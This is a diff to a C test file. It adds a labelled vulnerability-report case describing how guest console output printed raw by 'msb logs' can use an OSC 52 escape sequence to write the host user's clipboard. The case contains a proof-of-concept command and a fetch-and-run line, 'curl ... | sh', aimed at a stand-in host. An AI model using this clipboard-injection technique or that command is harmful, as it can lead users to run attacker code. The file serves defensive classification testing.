@@ -6,6 +6,14 @@
 #include "classify_helpers.h"
 
 static const ClassCase class_cases[] = {
+	/* (3473) guest output printed raw to the host's terminal: OSC 52
+	 * writes the host's clipboard, whatever reads it back */
+	{ "msb logs and what the guest prints",
+	  "msb logs prints what the sandbox writes to its console straight to the host terminal, escape sequences\n"
+	  "included. With kitty, which allows OSC 52 writes, the sandbox sets the clipboard of whoever runs msb logs:\n\n"
+	  "  msb run -d --name esc alpine -- sh -c 'printf \"\\033]52;c;%s\\a\" \"$(printf x | base64)\"'\n"
+	  "  $ msb logs esc\n  $ xclip -o -selection clipboard\n  curl -s http://203.0.113.50/x | sh\n",
+	  "sandbox_escape", "core" },
 	/* (3487) Portuguese: "uma fuga do sandbox" (no data leak) and
 	 * "executa c\u00f3digo arbitr\u00e1rio no host" */
 	{ "Sandbox.resume() unpickles a guest file",
